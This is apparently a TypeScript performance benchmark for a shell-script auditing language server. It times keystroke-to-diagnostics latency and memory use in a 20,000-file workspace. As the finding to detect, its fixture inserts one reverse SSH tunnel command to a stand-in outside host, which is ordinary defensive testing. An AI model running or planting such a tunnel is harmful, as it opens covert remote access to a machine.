/** What a person who types waits for in a large workspace, and what the server keeps in memory: the built server, spoken to as an editor does. */
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { pathToFileURL } from "node:url";
import type { Diagnostic } from "vscode-languageserver";
import { longScript, makeLargeWorkspace } from "../scripts/large-workspace.mjs";
import { root } from "../scripts/root.mjs";
import { type ServerClient, startServer } from "../scripts/server-client.ts";
import { type Bench, type Figure, spread } from "./bench.ts";

const files = 20_000;
const shortScript = 300;
const script = 5_000;
/** Who types fast types so often, in milliseconds. */
const betweenKeys = 100;

export const bench: Bench = {
  title: "the language server in a workspace of 20,000 files: a keystroke to its diagnostics, and memory",
  async run() {
    if (!existsSync(join(root, "dist", "server.js"))) return { notRun: "dist/ is not built" };
    const temporary = mkdtempSync(join(tmpdir(), "countersign-typing-"));
    const folder = makeLargeWorkspace(join(temporary, "workspace"), files);
    const server = await startServer(folder, true);
    try {
      return await measured(server, folder);
    } finally {
      await server.stop();
      rmSync(temporary, { recursive: true, force: true });
    }
  },
};

async function measured(server: ServerClient, folder: string): Promise<Figure[]> {
  const typed = await opened(server, join(folder, "typed.sh"), shortScript);
  const long = await opened(server, join(folder, "long.sh"), script);
  for (let key = 0; key < 40; key++) await typed.key();
  for (let key = 0; key < 20; key++) await long.key();

  const quietShort = await keys(typed, 100);
  const quietLong = await keys(long, 60);
  const atStart = megabytes(server);
  const first = await duringAudit(server, folder, typed);
  const afterOne = megabytes(server);
  const second = await duringAudit(server, folder, long);
  const afterTwo = megabytes(server);
  await keys(typed, 1_000, 0);
  const afterKeys = megabytes(server);
  await keys(typed, 1_000, 0);
  const afterMore = megabytes(server);

  const row = (name: string, times: readonly number[], limit: number | undefined, detail: string): Figure => ({
    name,
    unit: "ms",
    spread: spread([late(times)]),
    ...(limit === undefined ? {} : { budget: { atMost: limit } }),
    detail: `${detail}: ${times.length} keystrokes, median ${Math.round(spread(times).median)} ms`,
  });
  return [
    row(
      "keystroke p95, 300 lines, nothing else to do",
      quietShort,
      16,
      "from the change to the diagnostics, as a client of the server sees it",
    ),
    row("keystroke p95, 300 lines, while 20,000 files are audited", first.times, 50, `an audit of ${first.seconds} s`),
    row("keystroke p95, 5,000 lines, nothing else to do", quietLong, 16, "the same"),
    row("keystroke p95, 5,000 lines, while 20,000 files are audited", second.times, 50, `an audit of ${second.seconds} s`),
    {
      name: "server memory after the audit of 20,000 files",
      unit: "MB",
      spread: spread([afterOne]),
      detail: `resident, with its workers: ${atStart} MB before, ${afterOne} after one audit, ${afterTwo} after two`,
    },
    {
      name: "server memory after 2,000 keystrokes / after 1,000",
      unit: "×",
      spread: spread([afterMore / afterKeys]),
      detail: `${afterKeys} MB, then ${afterMore} MB; what grew with each keystroke would show`,
    },
  ];
}

interface Typed {
  /** Types one key and gives the milliseconds until its diagnostics are there. */
  readonly key: () => Promise<number>;
}

/** A finding in the middle appears and goes as the keys are typed. */
async function opened(server: ServerClient, file: string, lines: number): Promise<Typed> {
  const line = Math.floor(lines / 2);
  const text = longScript(lines).split("\n").toSpliced(line, 0, "ssh -R 9:localhost:22 agent@203.0.113.7").join("\n");
  let version = 1;
  if ((await server.diagnosticsOf(file, text)).length !== 1) throw new Error("The typed script does not have its finding.");
  return {
    key: async () => {
      version += 1;
      const isTyped = version % 2 === 0;
      const [start, end] = [
        { line, character: 0 },
        { line, character: isTyped ? 0 : 1 },
      ];
      const began = performance.now();
      const found = await server.change(file, version, [{ range: { start, end }, text: isTyped ? "x" : "" }]);
      const took = performance.now() - began;
      // A text that was given up has no findings at all, and says so.
      if (!found.some(isGivenUp) && found.length !== (isTyped ? 0 : 1)) throw new Error("The diagnostics do not follow the text.");
      return took;
    },
  };
}

/** On a machine with too much to do the time for a document may be over before it is read. */
function isGivenUp({ code }: Diagnostic): boolean {
  return code === "deadline" || code === "analysis-crashed";
}

async function keys(typed: Typed, count: number, pause = betweenKeys): Promise<number[]> {
  const times: number[] = [];
  while (times.length < count) {
    const took = await typed.key();
    times.push(took);
    await sleep(Math.max(0, pause - took));
  }
  return times;
}

async function duringAudit(server: ServerClient, folder: string, typed: Typed): Promise<{ times: number[]; seconds: number }> {
  const began = performance.now();
  let isOver = false;
  const audit = server.ask("countersign/auditFolder", { folder: pathToFileURL(folder).href }).then((answer) => {
    isOver = true;
    if (answer.stats.files < files / 2) throw new Error(`The audit read ${answer.stats.files} files.`);
  });
  const times: number[] = [];
  while (!isOver) times.push(...(await keys(typed, 1)));
  await audit;
  return { times, seconds: Math.round((performance.now() - began) / 1000) };
}

function late(times: readonly number[]): number {
  return [...times].sort((a, b) => a - b)[Math.floor(times.length * 0.95)] ?? Number.NaN;
}

/** What the process holds now, with all of its threads. */
function megabytes({ process: { pid } }: ServerClient): number {
  const [, kilobytes] = /^VmRSS:\s+(\d+) kB$/m.exec(readFileSync(`/proc/${pid}/status`, "utf8")) ?? [];
  return Math.round(Number(kilobytes) / 1024);
}
